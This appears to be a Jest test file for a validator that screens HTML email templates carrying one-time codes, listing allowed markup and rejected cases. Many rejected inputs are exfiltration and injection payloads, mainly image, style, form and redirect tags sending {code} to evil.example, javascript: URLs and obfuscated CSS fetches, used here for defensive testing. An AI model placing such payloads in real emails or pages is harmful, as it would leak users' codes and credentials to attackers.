import { performance } from 'node:perf_hooks';
import { refusedHtml } from './html-rules';
import { layOut } from './mail-layout';

describe('the HTML of a mail', () => {
  it.each([
    'Hello',
    '<p>{code}</p>',
    '<!DOCTYPE html><html lang="en"><head><style>p > b{color:red}@media (max-width:400px){p{margin:0}}</style></head><body>{code}</body></html>',
    '<p class="a" style="color:#123456">Your code:<br/><b>{code}</b></p><hr>',
    '<a href="https://example.com/help">Help</a> <a href="mailto:a@example.com">Mail</a>',
    '<img src="https://example.com/logo.png" alt="Logo" width="80">',
    '<table role="presentation" cellpadding="0"><tr><td align="center">{app}</td></tr></table>',
    '1 &lt; 2 &amp; 3',
    layOut('Your {app} code', 'Hello {username}\n\n{code}', { language: 'en', color: '#2f6fed' }),
  ])('may be %s', (html) => {
    expect(refusedHtml(html)).toBeUndefined();
  });

  it.each([
    ['a value in an address', '<img src="https://evil.example/{code}">'],
    ['a value in any attribute', '<p title="{code}">x</p>'],
    ['a value in a tag', '<p {code}>x</p>'],
    ['a value in a style', '<style>p::after{content:"{code}"}</style>'],
    ['a value in a style attribute', '<p style="background:{code}">x</p>'],
    ['an attribute without quotes', '<img src=https://evil.example/{code}>'],
    ['an attribute in single quotes', "<img src='https://evil.example/{code}'>"],
    ['quotes that programs read in different ways', '<img a" src="https://evil.example/>{code}">'],
    ['a bracket in an attribute', '<img alt=">" src="https://evil.example/{code}">'],
    ['a tag that never ends', '<img src="https://evil.example/?{code}'],
    ['a style that never ends', '<style>@import "https://evil.example/{code}";'],
    ['a style in another', '<style><style>p{}</style>'],
    ['a stray style end', 'p{}</style>'],
    ['a script', '<script>x</script>'],
    ['a handler', '<img src="https://example.com/x.png" onerror="x">'],
    ['a form', '<form action="https://evil.example"><input name="a"></form>'],
    ['a frame', '<iframe src="https://evil.example"></iframe>'],
    ['a base', '<base href="https://evil.example/">'],
    ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
    ['a drawing', '<svg><a href="https://example.com">x</a></svg>'],
    ['a comment', '<!-- {code} -->'],
    ['a script as an address', '<a href="javascript:x">x</a>'],
    ['a script as a hidden address', '<a href="&#106;avascript:x">x</a>'],
    ['data as an address', '<img src="data:image/svg+xml,x">'],
    ['an address without encryption', '<img src="http://example.com/x.png">'],
    ['a style that fetches', '<style>p{background:url(https://evil.example)}</style>'],
    ['a font by letters', '<style>@font-face{font-family:x;unicode-range:U+30}</style>'],
    ['a style attribute that fetches', '<p style="background:URL (https://evil.example)">x</p>'],
    ['a style that hides that it fetches', '<p style="background:\\75rl(https://evil.example)">x</p>'],
    ['a picture of sources', '<img srcset="https://evil.example/a 1x">'],
    ['a bracket on its own', '1 < 2'],
  ])('may not be %s', (_, html) => {
    expect(refusedHtml(html)).toEqual(expect.any(String));
  });

  it.each([
    '<p' + ' a'.repeat(20_000),
    '<p' + ' '.repeat(40_000),
    '<p a="'.repeat(6_000),
    '<style>'.repeat(5_000),
    '<p a' + ' ='.repeat(20_000),
  ])('is judged in no time: %#', (html) => {
    const start = performance.now();
    expect(refusedHtml(html)).toBeDefined();
    expect(performance.now() - start).toBeLessThan(5_000);
  });
});
